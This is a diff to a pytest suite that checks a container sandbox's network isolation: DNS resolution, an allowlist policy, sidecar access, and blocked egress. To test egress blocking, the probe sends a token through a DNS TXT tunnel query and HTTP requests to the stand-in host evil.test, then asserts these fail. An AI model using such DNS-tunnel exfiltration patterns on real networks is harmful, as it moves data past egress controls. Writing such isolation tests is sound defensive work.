@@ -27,6 +27,7 @@ from __future__ import annotations
 
 import json
 import secrets
+import socket
 import subprocess
 import threading
 from collections.abc import Iterator
@@ -37,6 +38,7 @@ import pytest
 from support.ci_image import ci_cli
 from support.net import Listener, primary_addresses
 from support.netns import PublicNet
+from support.probes import PROXY_CLIENT
 from support.public_probe import ROOTFUL_HOST, private_address, read_records, token_packets
 from support.users import (
     ROOTLESS_HOST,
@@ -50,6 +52,9 @@ from support.users import (
 pytestmark = [pytest.mark.docker, pytest.mark.root]
 
 BASE = "harness/base:bookworm"
+#: A name the engine's host resolves (Debian's mirror, which this machine's resolver
+#: answers), looked up by the public agent; the closed verifier asks for a subdomain.
+RESOLVABLE = "deb.debian.org"
 
 #: The sidecar: an HTTP server on 8080 (``/report``: its own probe, once done), which
 #: first probes every target of ``targets.json`` and its network's gateway.
@@ -191,6 +196,14 @@ for name, host, target_port in targets:
         u.sendto(token.encode(), (host, target_port))
     except OSError:
         pass
+def lookup(name):
+    try:
+        return socket.gethostbyname(name)
+    except OSError as exc:
+        return type(exc).__name__
+# Names go to the trial's own responder (never the engine's resolver); a sidecar's name is
+# a host entry.
+out["dns"] = {"public": lookup(sys.argv[4]), "kv": lookup("kv")}
 report = {}
 for _ in range(90):
     try:
@@ -209,7 +222,15 @@ json.dump(report, open("kv.json", "w"))
 
 VERIFIER = r"""
 import json, os, socket, sys, urllib.request
-token, public = sys.argv[1], sys.argv[2]
+token, public, name = sys.argv[1], sys.argv[2], sys.argv[3]
+def lookup(name):
+    try:
+        return socket.gethostbyname(name)
+    except OSError as exc:
+        return type(exc).__name__
+# No network: the embedded DNS still answers a sidecar's name, and nothing beyond it
+# (its forwarding leaves from the trial's own namespace, and is refused there).
+dns = {"public": lookup(token + "." + name), "kv": lookup("kv")}
 reached_public = False
 s = socket.socket(); s.settimeout(3)
 try:
@@ -221,15 +242,15 @@ try:
 except OSError:
     kv = False
 net = json.load(open("net.json"))
-print(json.dumps({"verifier_kv": kv, "verifier_public": reached_public, "agent": net}))
+print(json.dumps({"verifier_kv": kv, "verifier_public": reached_public, "dns": dns, "agent": net}))
 ok = net["tcp"].get("public") == "tcp" and net.get("kv") == "reached" and kv
-ok = ok and not reached_public
+ok = ok and not reached_public and dns["public"] == "gaierror" and "." in dns["kv"]
 open(os.environ["HARNESS_VERIFIER_DIR"] + "/reward.txt", "w").write("1" if ok else "0")
 """
 
 
 def _task(root: Path, token: str, port: int, sidecar_targets: list[str],
-          agent_targets: list[tuple[str, str, int]], public: str) -> Path:  # fmt: skip
+          agent_targets: list[tuple[str, str, int]], public: str, name: str) -> Path:  # fmt: skip
     task = root / "tasks" / "compose"
     (task / "tests").mkdir(parents=True)
     (task / "environment" / "kv").mkdir(parents=True)
@@ -247,10 +268,10 @@ def _task(root: Path, token: str, port: int, sidecar_targets: list[str],
     (kv / "kv.py").write_text(SIDECAR)
     (kv / "targets.json").write_text(json.dumps([token, port, sidecar_targets]))
     (task / "instruction.md").write_text(
-        f"python3 - {token} {port} '{json.dumps(agent_targets)}' <<'AGENT'\n{AGENT}AGENT\n"
+        f"python3 - {token} {port} '{json.dumps(agent_targets)}' {name} <<'AGENT'\n{AGENT}AGENT\n"
     )
     (task / "tests" / "verify.py").write_text(VERIFIER)
-    (task / "tests" / "test.sh").write_text(f"python3 /tests/verify.py {token} {public}\n")
+    (task / "tests" / "test.sh").write_text(f"python3 /tests/verify.py {token} {public} {name}\n")
     return root / "tasks"
 
 
@@ -323,7 +344,7 @@ def test_without_root_a_compose_task_reaches_its_sidecar_and_nothing_of_the_host
                          (("host-primary", primary), ("docker0", "172.17.0.1"),
                           ("rootless-host", "10.0.2.2"))]  # fmt: skip
         agent_targets += [("public", public, 8443), ("private", private, 8443)]
-        tasks = _task(work, token, listener.port, hosts, agent_targets, public)
+        tasks = _task(work, token, listener.port, hosts, agent_targets, public, RESOLVABLE)
         args = [*run_args(tasks, work / "out", "--agent", "command", "--agent-cmd",
                           "bash {instruction_file}")]  # fmt: skip
         if runtime is not None:
@@ -361,9 +382,220 @@ def test_without_root_a_compose_task_reaches_its_sidecar_and_nothing_of_the_host
     assert net["kv"] == "reached" and net["tcp"]["public"] == "tcp", net
     assert not [k for k, v in net["tcp"].items() if v == "tcp" and k != "public"], net
     report = json.loads((workspace / "kv.json").read_text())
+    # DNS: the sidecar's name resolves; the public name was asked of the trial's own
+    # responder, never of the engine's resolver. Here the responder resolves it to this
+    # machine's TLS-intercepting proxy, a reserved address it never hands out (refused,
+    # and said so as the trial's event); in the CI image, whose harness has no network
+    # (scripts/ci-image), it resolves nothing (docs/deployments.md).
+    assert net["dns"]["kv"].count(".") == 3, net
+    dns_events = [e for e in record["events"] if e.get("protocol") == "dns"]
+    asked = {(e["phase"], e.get("host")) for e in dns_events}
+    if where == "ci-image":
+        assert net["dns"]["public"] == "gaierror", net
+    elif net["dns"]["public"].count(".") != 3:
+        assert ("agent", RESOLVABLE) in asked, dns_events
     assert report.get("done"), report
     assert report["raw"] != "sent", report  # no packet socket (judged outside too)
     assert not any(v == "CONNECTED" for v in report["tcp"].values()), report
-    refused = {e["refused"] for e in record.get("events", []) if e["type"] == "network_refused"}
+    events = record.get("events", [])
+    refused = {e.get("refused") for e in events if e["type"] == "network_refused"}
     assert refused & {"gateway", "host", "host-subnet"}, refused
     assert "private" in refused, refused
+
+
+#: The allowlist agent's and the closed verifier's probe (``python3 -c "$PROBE"``).
+ALLOWLIST_PROBE = (
+    PROXY_CLIENT
+    + r"""
+out, public, token = {}, os.environ["PUB"], os.environ["TOKEN"]
+def resolve(name):
+    try:
+        return sorted({a[4][0] for a in socket.getaddrinfo(name, 80, socket.AF_INET)})
+    except socket.gaierror as exc:
+        return "gaierror %s" % exc.errno
+out["resolver"] = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")]
+out["no_proxy"] = os.environ.get("NO_PROXY", "")
+out["kv"] = get("http://kv:8080/")
+# The engine's resolver asked directly (port 53 goes to the relay; a TXT tunnel there).
+out["dns-embedded-unlisted"] = dns("127.0.0.11", token + ".tunnel.evil.test", 16)
+out["dns-listed"] = resolve("pub.test")
+if os.environ["ROLE"] == "verifier":
+    out["dns-public-other"] = resolve("evil.test")
+else:
+    out["dns-unlisted"] = resolve(token + ".evil.test")
+    out["http"] = get("http://pub.test/")
+    out["http-unlisted"] = get("http://evil.test/")
+    out["raw-public"] = raw(public, 8443)
+print(json.dumps(out))
+"""
+)
+
+#: Runs as the user on the harness of its own venv: one compose trial through the docker
+#: backend (the CLI cannot pin a name, which the allowlist needs), as JSON.
+ALLOWLIST_DRIVER = r"""
+import json, secrets, sys
+from pathlib import Path
+import docker
+from sandbox.backend import PhaseRequest, SandboxSpec
+from sandbox.docker.backend import DockerSandbox
+from sandbox.docker.images import ImageResolver
+from sandbox.docker.runtime import DockerRuntime
+from sandbox.environment import FIXED_PATH
+from sandbox.network_policy import NetworkPolicy
+
+config = json.load(sys.stdin)
+client = docker.from_env(timeout=300)
+label = "noroot-compose-" + secrets.token_hex(4)
+runtime = DockerRuntime(client, ImageResolver(client), run_label=label)
+runtime.egress.hosts = config["hosts"]
+spec = SandboxSpec(
+    trial_id="noroot-compose-" + secrets.token_hex(3), image=config["image"],
+    task_name="noroot-compose", compose_file=Path(config["compose"]), allow_internet=True,
+    networks={"agent": NetworkPolicy(mode="allowlist", allowed_hosts=("pub.test",)),
+              "verifier": NetworkPolicy(mode="public")},
+)
+out = {"host_filter": runtime.host_filter()}
+sandbox = DockerSandbox(spec, runtime)
+try:
+    sandbox.start()
+    out["facts"] = sandbox.describe()
+    for role in ("agent", "verifier"):
+        env = {"PATH": FIXED_PATH, "PROBE": config["probe"], "ROLE": role, **config["env"]}
+        result = sandbox.run_phase(PhaseRequest(
+            role=role, argv=["bash", "-c", 'python3 -c "$PROBE"'], env=env, timeout_sec=120))
+        logs = sandbox.paths.logs + "/" + role
+        data, _ = sandbox.read_file(logs + ".stdout", max_bytes=1 << 16)
+        errors, _ = sandbox.read_file(logs + ".stderr", max_bytes=1 << 16)
+        lines = [l for l in (data or b"").decode().splitlines() if l.startswith("{")]
+        out[role] = json.loads(lines[-1]) if lines else {
+            "exit": result.exit_code, "stderr": (errors or b"").decode()[-2000:]}
+    out["events"] = sandbox.network_events()
+finally:
+    sandbox.stop()
+    runtime.close()
+print(json.dumps(out))
+"""
+
+KV_HTTP = """\
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+class Handler(BaseHTTPRequestHandler):
+    def do_GET(self):
+        body = b"KV-OK"
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+ThreadingHTTPServer(("0.0.0.0", 8080), Handler).serve_forever()
+"""
+
+
+class _LoopbackResolver:
+    """A DNS listener on the host's ``127.0.0.1:53`` (UDP and TCP), logging what it is asked.
+
+    Where an engine's embedded DNS were told to forward to a loopback resolver, it would
+    ask this one from the engine's own namespace (the host's, for a rootful engine).
+    """
+
+    def __init__(self) -> None:
+        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self.udp.bind(("127.0.0.1", 53))
+        self.tcp.bind(("127.0.0.1", 53))
+        self.tcp.listen(8)
+        self.got: list[bytes] = []
+        self._stop = threading.Event()
+        for sock in (self.udp, self.tcp):
+            sock.settimeout(0.2)
+            threading.Thread(target=self._serve, args=(sock,), daemon=True).start()
+
+    def _serve(self, sock: socket.socket) -> None:
+        while not self._stop.is_set():
+            try:
+                if sock.type == socket.SOCK_DGRAM:
+                    self.got.append(sock.recv(4096))
+                else:
+                    conn, _ = sock.accept()
+                    conn.settimeout(2)
+                    with conn:
+                        self.got.append(conn.recv(4096))
+            except OSError:
+                continue
+
+    def close(self) -> None:
+        self._stop.set()
+        self.udp.close()
+        self.tcp.close()
+
+
+@pytest.mark.parametrize("where", ["docker-group", "rootless"])
+def test_without_root_a_compose_allowlist_phase_reaches_its_hosts_and_its_sidecar_only(
+    where: str, public_net: PublicNet
+) -> None:
+    """A compose task's ``allowlist`` agent, then its ``public`` verifier, without root.
+
+    The namespace's resolver is the engine's (``127.0.0.11``): its port 53 goes to the
+    trial's relay (listed names only), and whatever the engine forwards leaves from the
+    trial's own namespace, never from the engine's host: a resolver on the host's loopback
+    hears nothing. The listed host answers through the proxy, the sidecar directly.
+    """
+    if where == "rootless":
+        host, user = rootless_engine(), user_harness(ROOTLESS_USER)
+    else:
+        host, user = ROOTFUL_HOST, user_harness(docker_group_user())
+    work = user.workdir()
+    token = secrets.token_hex(8)
+    environment = work / "task" / "environment"
+    (environment / "kv").mkdir(parents=True)
+    (environment / "kv" / "Dockerfile").write_text(
+        f'FROM {BASE}\nCOPY kv.py /srv/\nCMD ["python3", "/srv/kv.py"]\n'
+    )
+    (environment / "kv" / "kv.py").write_text(KV_HTTP)
+    (environment / "docker-compose.yaml").write_text(COMPOSE)
+    user.give(work)
+    config = {
+        "hosts": {"pub.test": [public_net.ip], "evil.test": [public_net.ip]},
+        "image": BASE,
+        "compose": str(environment / "docker-compose.yaml"),
+        "probe": ALLOWLIST_PROBE,
+        "env": {"PUB": public_net.ip, "TOKEN": token},
+    }
+    before = public_net.seen()
+    resolver = _LoopbackResolver()
+    try:
+        done = subprocess.run(
+            ["runuser", "-u", user.user, "--", "env", "-i", f"HOME={user.home}",
+             f"PATH={user.venv}/bin:/usr/sbin:/usr/bin:/sbin:/bin", f"DOCKER_HOST={host}",
+             f"TMPDIR={user.home / 'tmp'}", "LANG=C.UTF-8",
+             f"{user.venv}/bin/python", "-I", "-c", ALLOWLIST_DRIVER],
+            input=json.dumps(config), capture_output=True, text=True, timeout=600,
+            cwd=str(user.home),
+        )  # fmt: skip
+    finally:
+        resolver.close()
+    assert done.returncode == 0, done.stderr[-4000:]
+    out = json.loads(done.stdout.strip().splitlines()[-1])
+    seen = public_net.seen()[len(before) :]
+    agent, verifier = out["agent"], out["verifier"]
+    assert out["host_filter"] is False, out
+    # From outside: the host's loopback resolver heard nothing; the public side saw the
+    # listed request alone.
+    assert not [q for q in resolver.got if token.encode() in q], resolver.got
+    assert "Host: pub.test" in seen and "evil.test" not in seen and token not in seen, seen
+    facts = out["facts"]
+    assert facts["egress"] == "namespace" and facts["compose"]["host_guard"]["kind"] == "engine"
+    # Inside: the engine's resolver, its port 53 the relay's; the sidecar directly.
+    assert agent["resolver"] == ["127.0.0.11"], agent
+    assert "kv" in agent["no_proxy"].split(","), agent
+    assert agent["kv"] == "KV-OK" and verifier["kv"] == "KV-OK", out
+    assert agent["dns-listed"] == [public_net.ip], agent
+    assert agent["http"] == "PUBLIC-OK host=pub.test", agent
+    assert agent["http-unlisted"] == "HTTP 403", agent
+    assert agent["raw-public"] != "CONNECTED", agent
+    assert str(agent["dns-unlisted"]).startswith("gaierror"), agent
+    # The public verifier resolves through the same relay, every name (the control).
+    assert verifier["dns-listed"] == [public_net.ip], verifier
+    assert verifier["dns-public-other"] == [public_net.ip], verifier
+    for phase in (agent, verifier):
+        answer = phase["dns-embedded-unlisted"]
+        assert not (isinstance(answer, list) and answer[1] > 0), phase
